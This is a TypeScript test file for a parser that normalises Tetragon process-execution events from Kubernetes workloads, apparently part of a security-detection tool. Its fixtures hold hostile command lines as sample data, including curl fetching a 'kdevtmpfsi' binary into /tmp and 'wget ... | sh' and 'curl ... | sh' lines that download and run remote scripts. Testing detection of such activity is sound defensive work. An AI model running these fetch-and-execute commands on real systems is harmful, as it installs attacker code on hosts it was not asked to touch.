import { describe, expect, it } from "vitest";
import type { ExecEvent } from "../../src/model.js";
import { tetragon } from "../../src/sources/tetragon.js";
import { context, itNormalizesFixtures, K8S_GROUP, loadFixture, loadMessage } from "./fixtures.js";

const ctx = context({ logGroup: K8S_GROUP, logStream: "tetragon-export-ip-10-0-12-34" });
const source = {
  format: "tetragon",
  logGroup: K8S_GROUP,
  logStream: "tetragon-export-ip-10-0-12-34",
  eventId: ctx.eventId,
  owner: "123456789012",
} as const;

const CHECKOUT = {
  id: "c7761e58969f7edd498186641b2021e8477e1bcd230de4cf3435242da4a40d14",
  name: "checkout",
  image: "123456789012.dkr.ecr.us-east-1.amazonaws.com/checkout:1.14.2",
};
const CHECKOUT_POD = {
  platform: "kubernetes",
  namespace: "shop",
  pod: "checkout-7c9d5b8f6d-x2lqp",
  node: "ip-10-0-12-34.ec2.internal",
  owner: { kind: "Deployment", name: "checkout" },
  labels: { app: "checkout", "pod-template-hash": "7c9d5b8f6d" },
} as const;

/** Exec ids of the fixture's process, parent and grandparent; its `ancestors` list makes it complete. */
function lineageOf(name: string): ExecEvent["lineage"] {
  const exec = loadFixture(name).process_exec as Record<string, Record<string, string>>;
  return {
    complete: true,
    execId: exec.process?.exec_id,
    parentExecId: exec.process?.parent_exec_id,
    grandparentExecId: exec.parent?.parent_exec_id,
  };
}

const expected: Record<string, ExecEvent[]> = {
  "tetragon-curl-tmp": [
    {
      process: {
        name: "curl",
        path: "/tmp/curl",
        args: ["-sSL", "-o", "/tmp/kdevtmpfsi", "http://198.51.100.23:8080/kdevtmpfsi"],
        pid: 48213,
        user: "0",
        cwd: "/tmp",
      },
      ancestors: [
        {
          name: "sh",
          path: "/bin/sh",
          args: ["-c", "cd /tmp && ./curl -sSL -o /tmp/kdevtmpfsi http://198.51.100.23:8080/kdevtmpfsi"],
        },
        { name: "node", path: "/usr/local/bin/node", args: ["/app/dist/server.js"] },
      ],
      container: CHECKOUT,
      workload: CHECKOUT_POD,
      inContainer: true,
      viaExecSession: false,
      time: "2026-03-14T09:26:53.589Z",
      source,
      lineage: lineageOf("tetragon-curl-tmp"),
    },
  ],
  "tetragon-wget-pipe-sh": [
    {
      process: {
        name: "wget",
        path: "/usr/bin/wget",
        args: ["-qO-", "http://203.0.113.45/x.sh"],
        pid: 61544,
        user: "1001",
        cwd: "/srv",
      },
      ancestors: [
        { name: "sh", path: "/bin/sh", args: ["-c", "wget -qO- http://203.0.113.45/x.sh | sh"] },
        {
          name: "python3.12",
          path: "/usr/local/bin/python3.12",
          args: ["-m", "gunicorn", "ledger.wsgi:application", "--bind", "0.0.0.0:8000"],
        },
      ],
      container: {
        id: "14c2529eb4498c5d1ffd6915d05bf58a91bdda796af59f41d480d11c099d0479",
        name: "ledger-api",
        image: "123456789012.dkr.ecr.us-east-1.amazonaws.com/ledger-api:2026.03.2",
      },
      workload: {
        platform: "kubernetes",
        namespace: "payments",
        pod: "ledger-api-5f8d9c7b4-m9q2t",
        node: "ip-10-0-47-181.ec2.internal",
        owner: { kind: "Deployment", name: "ledger-api" },
        labels: { "app.kubernetes.io/name": "ledger-api", "pod-template-hash": "5f8d9c7b4" },
      },
      inContainer: true,
      viaExecSession: false,
      time: "2026-03-15T22:11:07.402Z",
      source,
      lineage: lineageOf("tetragon-wget-pipe-sh"),
    },
  ],
  "tetragon-host-curl": [
    {
      process: {
        name: "curl",
        path: "/usr/bin/curl",
        args: [
          "-s",
          "-H",
          "X-aws-ec2-metadata-token: AQAEAEXAMPLETOKEN",
          "http://169.254.169.254/latest/meta-data/instance-id",
        ],
        pid: 51220,
        user: "0",
        cwd: "/",
      },
      ancestors: [
        { name: "bash", path: "/usr/bin/bash", args: ["/etc/eks/bootstrap-helper.sh", "--refresh-metadata"] },
        {
          name: "systemd",
          path: "/usr/lib/systemd/systemd",
          args: ["--switched-root", "--system", "--deserialize", "21"],
        },
      ],
      container: {},
      workload: { platform: "unknown", node: "ip-10-0-12-34.ec2.internal" },
      inContainer: false,
      viaExecSession: false,
      time: "2026-03-14T09:31:40.001Z",
      source,
      lineage: lineageOf("tetragon-host-curl"),
    },
  ],
  "tetragon-process-exit": [],
};

describe("tetragon parser", () => {
  itNormalizesFixtures(tetragon, ctx, expected);

  it.each([
    ["tetragon-benign-node", "node", ["/app/dist/jobs/rebuild-search-index.js", "--batch-size", "500"]],
    ["tetragon-curl-localhost", "curl", ["-fsS", "http://localhost:8080/healthz"]],
  ])("reads the benign case %s", (name, processName, args) => {
    const [event] = tetragon.parse(loadMessage(name), ctx) ?? [];
    expect(event?.process.name).toBe(processName);
    expect(event?.process.args).toEqual(args);
    expect(event?.inContainer).toBe(true);
  });

  it("treats a docker container id without a pod as a docker container", () => {
    // Prepare
    const fixture = loadFixture("tetragon-host-curl");
    const exec = fixture.process_exec as { process: Record<string, unknown> };
    exec.process.docker = "976f2752ecfdc083a35713e8599a9de";

    // Act
    const [event] = tetragon.parse(JSON.stringify(fixture), ctx) ?? [];

    // Assess
    expect(event?.inContainer).toBe(true);
    expect(event?.container).toEqual({ id: "976f2752ecfdc083a35713e8599a9de" });
    expect(event?.workload.platform).toBe("docker");
  });

  it("names EKS and its cluster from the Container Insights log group, cluster_name or node labels", () => {
    const message = loadMessage("tetragon-curl-tmp");
    const insights = tetragon.parse(
      message,
      context({ logGroup: "/aws/containerinsights/prod-eks/application" }),
    );
    expect(insights?.[0]?.workload).toMatchObject({ platform: "eks", cluster: "prod-eks" });

    const labelled = loadFixture("tetragon-curl-tmp");
    labelled.node_labels = {
      "eks.amazonaws.com/nodegroup": "general",
      "alpha.eksctl.io/cluster-name": "blue",
    };
    const fromLabels = tetragon.parse(JSON.stringify(labelled), ctx);
    expect(fromLabels?.[0]?.workload).toMatchObject({ platform: "eks", cluster: "blue" });

    labelled.cluster_name = "green";
    expect(tetragon.parse(JSON.stringify(labelled), ctx)?.[0]?.workload.cluster).toBe("green");
  });

  it("reads a parent's sh -c payload whole when it quotes words of its own", () => {
    // Prepare: Tetragon writes the payload in quotes without escaping the quotes inside it.
    const fixture = loadFixture("tetragon-curl-tmp");
    const exec = fixture.process_exec as { parent: Record<string, unknown> };
    exec.parent.binary = "/bin/sh";
    exec.parent.arguments = '-c "curl -sA "Mozilla 5.0" http://203.0.113.9/x | sh"';
    // Act
    const [event] = tetragon.parse(JSON.stringify(fixture), ctx) ?? [];
    // Assess
    expect(event?.ancestors[0]).toEqual({
      name: "sh",
      path: "/bin/sh",
      args: ["-c", 'curl -sA "Mozilla 5.0" http://203.0.113.9/x | sh'],
    });
  });

  it("keeps the parent position when the parent has no binary", () => {
    const fixture = loadFixture("tetragon-curl-tmp");
    (fixture.process_exec as Record<string, unknown>).parent = { pid: 48207 };
    const [event] = tetragon.parse(JSON.stringify(fixture), ctx) ?? [];
    expect(event?.ancestors).toEqual([
      {},
      { name: "node", path: "/usr/local/bin/node", args: ["/app/dist/server.js"] },
    ]);
  });

  it("falls back to the log event time when `time` is missing or not a time", () => {
    const fixture = loadFixture("tetragon-curl-tmp");
    fixture.time = "yesterday";
    expect(tetragon.parse(JSON.stringify(fixture), ctx)?.[0]?.time).toBe("2026-03-20T12:00:05.000Z");
    delete fixture.time;
    expect(tetragon.parse(JSON.stringify(fixture), ctx)?.[0]?.time).toBe("2026-03-20T12:00:05.000Z");
  });

  it.each([
    ["plain text", 'level=info msg="process_exec received"'],
    ["broken JSON", '{"process_exec": {"process": '],
    ["JSON array", '[{"process_exec": {}}]'],
    ["exec without process", '{"process_exec": {}, "time": "2026-03-14T09:26:53Z"}'],
    ["exec without binary", '{"process_exec": {"process": {"pid": 4, "binary": 7}}}'],
    ["exec that is not an object", '{"process_exec": "yes"}'],
    ["other JSON mentioning the key", '{"msg": "\\"process_exec\\" handler started"}'],
  ])("returns null for %s", (_label, message) => {
    expect(tetragon.parse(message, ctx)).toBeNull();
  });

  it("does not sniff other formats", () => {
    expect(tetragon.sniff(loadMessage("falco-nc-reverse-shell"))).toBe(false);
    expect(tetragon.sniff(loadMessage("k8s-audit-exec-imds-started"))).toBe(false);
    expect(tetragon.sniff("START RequestId: 7f1c2d3e Version: $LATEST")).toBe(false);
  });
});
